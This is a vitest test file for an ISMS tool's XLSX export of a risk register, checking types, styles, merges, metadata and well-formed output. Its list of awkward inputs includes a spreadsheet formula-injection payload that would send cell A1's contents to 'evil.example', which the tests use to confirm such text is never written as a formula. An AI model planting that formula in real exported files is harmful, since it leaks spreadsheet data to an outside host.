import ExcelJS from 'exceljs';
import { XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import type { ExportTable } from '../../src/export/export-table.js';
import { toXlsx } from '../../src/export/xlsx.js';
import { excelJsRows, readWithExcelJs, readWithSecondReader, workbookParts } from '../helpers/workbook.js';

const TIME = new Date('2026-11-30T10:00:00Z');

/** Text a spreadsheet could mistake for a formula, a control character, an escape or markup. */
const AWKWARD = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '@SUM(1+1)',
  'bell\u0007 and escape\u001b',
  'carriage\r\nreturn',
  'literally _x0041_, not A',
  '  leading and trailing spaces  ',
  '<b>&amp; "quoted"</b>',
  'emoji 🛡️ and accents é',
];

const table: ExportTable = {
  kind: 'risks',
  title: 'Risk register',
  organization: 'Wacky & Widget',
  source: { commit: null, committed: null, at: null, uncommitted: [] },
  columns: [
    { key: 'id', header: 'Risk', kind: 'id' },
    { key: 'title', header: 'Title', kind: 'text' },
    { key: 'score', header: 'Score', kind: 'number' },
    { key: 'controls', header: 'Controls', kind: 'list' },
    { key: 'evidence', header: 'Evidence', kind: 'lines' },
    { key: 'accepted', header: 'Accepted on', kind: 'date' },
  ],
  rows: [
    {
      id: 'R-001',
      title: 'Ransomware encrypts client data, a title long enough to be wrapped in its cell',
      score: 20,
      controls: ['8.7', '8.13'],
      evidence: ['backup log', 'restore test'],
      accepted: '2026-10-05',
    },
    { id: 'R-002', title: AWKWARD.join(' | '), score: 4.5, controls: [], evidence: AWKWARD, accepted: 'next spring' },
    { id: 'R-003', title: '  leading and trailing spaces  ', score: null, controls: ['5.1'], evidence: [], accepted: '1899-12-31' },
  ],
  facts: [
    ['Organisation', 'Wacky & Widget'],
    ['Source', 'the working tree (not a git repository: no commit)'],
  ],
  summary: [
    {
      title: 'Risks by level',
      header: ['Level', 'Inherent', 'Residual'],
      rows: [
        ['critical', 1, 0],
        ['low', 2, 3],
      ],
    },
  ],
};

const bytes = toXlsx(table, { time: TIME, toolVersion: '9.9.9' });
const header = ['Risk', 'Title', 'Score', 'Controls', 'Evidence', 'Accepted on'];
/** The table as a reader should give it back: numbers as numbers, dates as dates, lists joined, text as written. */
const expected = [
  header,
  ['R-001', 'Ransomware encrypts client data, a title long enough to be wrapped in its cell', 20, '8.7, 8.13', 'backup log\nrestore test', new Date(Date.UTC(2026, 9, 5))],
  ['R-002', AWKWARD.join(' | '), 4.5, null, AWKWARD.join('\n'), 'next spring'],
  // A day before 1900-03-01 has no serial number every spreadsheet agrees on: it stays text.
  ['R-003', '  leading and trailing spaces  ', null, '5.1', null, '1899-12-31'],
];

describe('the workbook isms writes', () => {
  it('gives exceljs the table on its first sheet: numbers as numbers, dates as dates, text as written', async () => {
    const book = await readWithExcelJs(bytes);
    expect(book.worksheets.map((sheet) => sheet.name)).toEqual(['Risk register', 'Summary']);
    // exceljs gives an empty cell as null, or leaves it out at the end of a row.
    const rows = excelJsRows(book.worksheets[0]!).map((row) => header.map((_, i) => row[i] ?? null));
    expect(rows).toEqual(expected);
    expect(book.worksheets[0]!.getCell('F2').type).toBe(ExcelJS.ValueType.Date);
    expect(book.worksheets[0]!.getCell('C2').type).toBe(ExcelJS.ValueType.Number);
  });

  it('gives a second reader (read-excel-file) the same table', async () => {
    const [sheet] = await readWithSecondReader(bytes);
    expect(sheet!.sheet).toBe('Risk register');
    expect(sheet!.data).toEqual(expected);
  });

  it('never writes a formula: text that starts with = or @ is a text cell', async () => {
    const parts = await workbookParts(bytes);
    for (const name of parts.names.filter((n) => n.startsWith('xl/worksheets/'))) expect(await parts.text(name)).not.toMatch(/<f[ >/]/);
    const sheet = (await readWithExcelJs(bytes)).worksheets[0]!;
    expect(sheet.getCell('B3').type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getCell('B3').value).toMatch(/^=HYPERLINK/);
  });

  it('marks text with leading or trailing spaces to be kept, as spreadsheets otherwise trim it', async () => {
    const strings = (await (await workbookParts(bytes)).xml('xl/sharedStrings.xml'))['sst'].si as Array<{ t: string | { '#text': string; '@xml:space'?: string } }>;
    const spaced = strings.map((si) => si.t).find((t) => typeof t === 'object' && t['#text'] === '  leading and trailing spaces  ');
    expect(spaced).toEqual({ '#text': '  leading and trailing spaces  ', '@xml:space': 'preserve' });
  });

  it('keeps the header row and the first column in view and filters every row, as both readers see it', async () => {
    const sheet = (await readWithExcelJs(bytes)).worksheets[0]!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 1, topLeftCell: 'B2' });
    expect(sheet.autoFilter).toBe('A1:F4');
    const parts = await workbookParts(bytes);
    const xml = (await parts.xml('xl/worksheets/sheet1.xml'))['worksheet'];
    expect(xml.sheetViews.sheetView.pane).toMatchObject({ '@xSplit': '1', '@ySplit': '1', '@topLeftCell': 'B2', '@state': 'frozen' });
    expect(xml.autoFilter['@ref']).toBe('A1:F4');
    // Spreadsheets keep a filter's range in a hidden name of the workbook too.
    const names = (await parts.xml('xl/workbook.xml'))['workbook'].definedNames.definedName;
    expect(names).toEqual([{ '@name': '_xlnm._FilterDatabase', '@localSheetId': '0', '@hidden': '1', '#text': "'Risk register'!$A$1:$F$4" }]);
  });

  it('sizes each column to its text within bounds, wraps long text and shows dates as yyyy-mm-dd', async () => {
    const sheet = (await readWithExcelJs(bytes)).worksheets[0]!;
    const widths = [1, 2, 3, 4, 5, 6].map((n) => sheet.getColumn(n).width);
    expect(widths).toEqual([7, 60, 8, 11, 49, 12]);
    expect(sheet.getCell('A1').font?.bold).toBe(true);
    expect(sheet.getCell('B2').alignment).toEqual({ vertical: 'top', wrapText: true });
    expect(sheet.getCell('E2').alignment).toEqual({ vertical: 'top', wrapText: true });
    expect(sheet.getCell('A2').alignment).toEqual({ vertical: 'top' });
    expect(sheet.getCell('F2').numFmt).toBe('yyyy-mm-dd');
    // The same, from the parts: the style a cell names, looked up in styles.xml.
    const parts = await workbookParts(bytes);
    const styles = (await parts.xml('xl/styles.xml'))['styleSheet'];
    const formats = styles.cellXfs.xf as Array<Record<string, any>>;
    const cells = new Map<string, Record<string, any>>(
      ((await parts.xml('xl/worksheets/sheet1.xml'))['worksheet'].sheetData.row as Array<{ c: Array<Record<string, any>> }>).flatMap((row) => row.c.map((c) => [c['@r'] as string, c])),
    );
    const styleOf = (ref: string) => formats[Number(cells.get(ref)!['@s'] ?? 0)]!;
    expect(styleOf('B2').alignment['@wrapText']).toBe('1');
    expect(styleOf('A2').alignment['@wrapText']).toBeUndefined();
    const dateFormat = (styles.numFmts.numFmt as Array<Record<string, string>>).find((f) => f['@numFmtId'] === styleOf('F2')['@numFmtId']);
    expect(dateFormat?.['@formatCode']).toBe('yyyy-mm-dd');
    expect(styles.fonts.font[Number(styleOf('A1')['@fontId'])]).toHaveProperty('b');
  });

  it('heads its Summary sheet with the facts, then each summary table, counts as numbers', async () => {
    const summary = (await readWithSecondReader(bytes))[1]!;
    expect(summary.sheet).toBe('Summary');
    // A fact's value is merged across the sheet's columns: the cells it covers read as empty.
    expect(summary.data).toEqual([
      ['Organisation', 'Wacky & Widget', null],
      ['Source', 'the working tree (not a git repository: no commit)', null],
      [null, null, null],
      ['Risks by level', null, null],
      ['Level', 'Inherent', 'Residual'],
      ['critical', 1, 0],
      ['low', 2, 3],
    ]);
    const sheet = (await readWithExcelJs(bytes)).worksheets[1]!;
    expect((sheet.model as { merges: string[] }).merges).toEqual(['B1:C1', 'B2:C2']);
    expect(sheet.getCell('A1').font?.bold).toBe(true);
    expect(sheet.getCell('B2').alignment?.wrapText).toBe(true);
  });

  it('merges no single cell when the Summary sheet has only its facts, two columns wide', async () => {
    const factsOnly = toXlsx({ ...table, summary: [] }, { time: TIME, toolVersion: '9.9.9' });
    const sheet = (await (await workbookParts(factsOnly)).xml('xl/worksheets/sheet2.xml'))['worksheet'];
    expect(sheet.mergeCells).toBeUndefined();
    expect((await readWithSecondReader(factsOnly))[1]!.data).toEqual([
      ['Organisation', 'Wacky & Widget'],
      ['Source', 'the working tree (not a git repository: no commit)'],
    ]);
  });

  it('names its title, creator, company and time in the document properties', async () => {
    const book = await readWithExcelJs(bytes);
    expect(book.title).toBe('Wacky & Widget: Risk register');
    expect(book.creator).toBe('isms 9.9.9');
    expect(book.company).toBe('Wacky & Widget');
    expect(book.created).toEqual(TIME);
    expect(book.modified).toEqual(TIME);
  });

  it('is a package of well-formed XML parts, each declared with its type and reached by a relationship', async () => {
    const parts = await workbookParts(bytes);
    for (const name of parts.names) expect(XMLValidator.validate(await parts.text(name)), name).toBe(true);
    const types = (await parts.xml('[Content_Types].xml'))['Types'];
    const declared = (types.Override as Array<Record<string, string>>).map((o) => o['@PartName']!.slice(1));
    const content = parts.names.filter((name) => !name.endsWith('.rels') && name !== '[Content_Types].xml');
    expect(declared.sort()).toEqual([...content].sort());
    const targets = async (rels: string, base: string) => ((await parts.xml(rels))['Relationships'].Relationship as Array<Record<string, string>>).map((r) => `${base}${r['@Target']}`);
    const reached = [...(await targets('_rels/.rels', '')), ...(await targets('xl/_rels/workbook.xml.rels', 'xl/'))];
    expect(reached.sort()).toEqual([...content].sort());
  });

  it('writes the same bytes for the same table and time, and dates every file of its zip with that time', async () => {
    expect(toXlsx(table, { time: TIME, toolVersion: '9.9.9' }).equals(bytes)).toBe(true);
    expect(toXlsx(table, { time: new Date('2026-12-01T10:00:00Z'), toolVersion: '9.9.9' }).equals(bytes)).toBe(false);
    const core = await (await workbookParts(bytes)).text('docProps/core.xml');
    expect(core).toContain('<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-30T10:00:00Z</dcterms:created>');
  });
});
